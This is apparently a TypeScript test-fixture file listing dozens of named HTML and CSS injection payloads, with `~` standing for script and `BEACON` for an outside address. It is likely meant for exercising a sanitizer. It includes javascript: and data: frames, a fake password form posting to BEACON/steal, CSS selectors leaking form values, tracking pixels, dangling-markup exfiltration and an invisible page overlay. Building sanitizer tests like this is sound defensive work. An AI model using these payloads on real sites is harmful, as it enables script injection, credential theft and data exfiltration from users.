/** Elements, styles and pictures that load, send or replace. `~` is the script of the case, `BEACON` a stranger's address. */
export const LOADING: Readonly<Record<string, string>> = {
  iframe: '<iframe src="javascript:~"></iframe>',
  'iframe with a page inside': '<iframe srcdoc="<script>top.__xss=1;~</script>"></iframe>',
  'iframe srcdoc escaped': '<iframe srcdoc="&lt;img src=x onerror=~&gt;"></iframe>',
  'iframe srcdoc twice escaped': '<iframe srcdoc="&amp;lt;script&amp;gt;~&amp;lt;/script&amp;gt;"></iframe>',
  'iframe srcdoc in a sandbox':
    '<iframe sandbox="allow-scripts allow-modals" srcdoc="<script>alert(1)</script>"></iframe>',
  'iframe of elsewhere': '<iframe src="BEACON/frame" allow="camera; microphone" allowfullscreen></iframe>',
  'iframe with a data page': '<iframe src="data:text/html,<script>~</script>"></iframe>',
  'iframe that loads': '<iframe src="about:blank" onload="~"></iframe>',
  frameset: '<frameset onload="~"><frame src="javascript:~"></frameset>',
  'frameset in the body': '<p>x</p><frameset onpageshow="~"><frame src="BEACON/f"></frameset>',
  object: '<object data="javascript:~"></object>',
  'object with a data page': '<object type="text/html" data="data:text/html,<script>~</script>"></object>',
  'object with parameters':
    '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=url value="javascript:~"></object>',
  'object with something to fall back to': '<object data=x:x><img src=x onerror="~"></object>',
  embed: '<embed src="javascript:~" type="text/html">',
  'embed a picture': '<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=~ />">',
  'embed of elsewhere':
    '<embed src="BEACON/e" allowscriptaccess=always><applet code=x archive="BEACON/a"></applet>',
  'portal and fenced frame':
    '<portal src="javascript:~"></portal><fencedframe src="javascript:~"></fencedframe>',
  'form action': '<form action="javascript:~"><input type=submit autofocus></form>',
  'form to elsewhere':
    '<form action="BEACON/form" method=post><input name=p type=password><button>Sign in</button></form>',
  'form of a page that is open':
    '<form id=f2 action="BEACON/steal"></form><input form=f2 autofocus onfocus="~">',
  'button action': '<form id=f></form><button form=f formaction="javascript:~">x</button>',
  'button action to elsewhere': '<button formaction="BEACON/b" formmethod=get formtarget=_top>x</button>',
  'input image': '<input type=image src=x onerror="~"><input autofocus onfocus="~">',
  'input image to elsewhere': '<form><input type=image src="BEACON/i.png" formaction="javascript:~"></form>',
  'text area at once':
    '<textarea autofocus onfocus="~" oninput="~">x</textarea><select autofocus onfocus="~"></select>',
  'output and key generator': '<output name=x onforminput="~">x</output><keygen autofocus onfocus="~">',
  isindex: '<isindex type=image src=x onerror="~" action="javascript:~">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:~">',
  'meta refresh to elsewhere': '<meta http-equiv=Refresh content="0; url=BEACON/refresh">',
  'meta refresh to a data page':
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>~</script>">',
  'meta policy':
    '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'; report-uri BEACON/csp">',
  'meta cookie':
    '<meta http-equiv="Set-Cookie" content="gloss-session=x"><meta name=referrer content=unsafe-url>',
  'link import':
    '<link rel="stylesheet" href="data:text/css,*{x:expression(~)}" onload="~"><link rel=import href=x>',
  'link style of elsewhere':
    '<link rel=stylesheet href="BEACON/s.css"><link rel="alternate stylesheet" href="BEACON/t">',
  'link ahead':
    '<link rel=prefetch href="BEACON/p"><link rel=preload as=image href="BEACON/q"><link rel=modulepreload href="BEACON/r">',
  'link to look up': '<link rel=dns-prefetch href="//beacon.invalid"><link rel=preconnect href="BEACON">',
  'link with pictures': '<link rel=preload as=image imagesrcset="BEACON/1 1x, BEACON/2 2x" imagesizes=50vw>',
  'link to an icon or a manifest':
    '<link rel=icon href="BEACON/icon"><link rel=manifest href="BEACON/m.json">',
  'link element in the text': '<p>x<link rel=stylesheet href="javascript:~" onerror="~"></p>',
  'picture of elsewhere': '<img src="BEACON/1.gif" width=1 height=1 alt="">',
  'picture of elsewhere, no scheme':
    '<img src="//beacon.invalid/2.gif"><img src="\\\\beacon.invalid\\3.gif">',
  'picture sets':
    '<img srcset="BEACON/4 1x,BEACON/5 2x" sizes=100vw><picture><source srcset="BEACON/6"><img></picture>',
  'picture behind entities': '<img src="&#104;ttp&colon;&sol;&sol;beacon.invalid/7.gif">',
  'picture behind a poster': '<video poster="BEACON/8"></video><audio src="BEACON/9" autoplay></audio>',
  'picture behind a table':
    '<table background="BEACON/a"><tr><td background="BEACON/b">x</table><body background="BEACON/c">',
  'picture with ads behind it':
    '<img attributionsrc="BEACON/d" src="data:,"><img lowsrc="BEACON/e" dynsrc="BEACON/f">',
  'sound and captions':
    '<bgsound src="BEACON/g"><video src="BEACON/h"><track src="BEACON/i" default></video>',
  'style import': '<style>@import "javascript:~";*{background:url("javascript:~")}</style>',
  'style import of elsewhere':
    '<style>@import url(BEACON/j.css);@font-face{font-family:x;src:url(BEACON/k)}</style>',
  'style that reads a form':
    '<style>input[value^=a]{background:url(BEACON/l)}*{list-style:url(BEACON/m)}</style>',
  'style expression': '<p style="width:expression(~);background:url(javascript:~);-moz-binding:url(x)">x</p>',
  'style behaviour':
    '<p style="behavior:url(BEACON/n.htc);filter:url(BEACON/o#x);cursor:url(BEACON/p),auto">x</p>',
  'style picture':
    '<p style="background:url(BEACON/q)">x</p><span style="border-image:url(BEACON/r) 1">y</span>',
  'style picture set':
    '<p style="background:image-set(\'BEACON/s\' 1x);mask:url(BEACON/t);content:url(BEACON/u)">x</p>',
  'style picture with escapes':
    '<p style="background:\\75\\72\\6c(BEACON/v);b\\61ckground-image:url(BEACON/w)">x</p>',
  'style variable': '<p style="--x:url(BEACON/x);background:var(--x);shape-outside:url(BEACON/y)">x</p>',
  'style over the page':
    '<b style="position:fixed;inset:0;z-index:9999;opacity:0" class="fixed inset-0">x</b>',
  'style names of the page':
    '<p class="quote-chip ProseMirror" id="__next" style="display:none" hidden inert>x</p>',
  'dangling picture': "<img src='BEACON/dangling?",
  'dangling style': '<style>@import url(BEACON/dangling?',
  'dangling link': '<a href="BEACON/dangling?',
  'dangling target': "<base target='",
  'dangling text field': '<form action="BEACON/dangling"><textarea name=x>',
  'dangling button': '<button form=f3 formaction="BEACON/dangling">x<form id=f3><option>',
};
